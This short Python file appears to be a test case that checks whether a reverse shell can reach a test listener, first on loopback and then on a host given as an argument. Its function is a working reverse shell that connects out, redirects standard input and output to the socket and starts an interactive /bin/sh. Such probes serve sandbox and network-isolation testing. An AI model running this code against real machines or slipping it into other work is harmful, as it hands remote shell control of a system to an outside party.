"""Further case: a reverse shell towards the test's listener. argv: host address, port."""

import os
import socket
import sys

from probe import probe

host, port = sys.argv[1], int(sys.argv[2])


def shell(address: str) -> None:
    sock = socket.create_connection((address, port), timeout=1)
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    os.execv("/bin/sh", ["/bin/sh", "-i"])


probe("python-loopback", shell, "127.0.0.1")
probe("python-host", shell, host)
